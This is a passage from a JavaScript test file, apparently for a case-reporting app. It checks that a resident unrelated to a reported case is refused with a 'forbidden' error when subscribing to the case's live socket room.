    it('does not let someone with no part in the case watch it', async () => {
      const { detail } = await reportedCase();
      const stranger = await resident('路人');
      const socket = await connect(stranger.token);
      const room = liveRoom('case', detail.id);
      expect(await subscribe(socket, room)).toEqual({ ok: false, room, error: 'forbidden' });
    });
  });
});
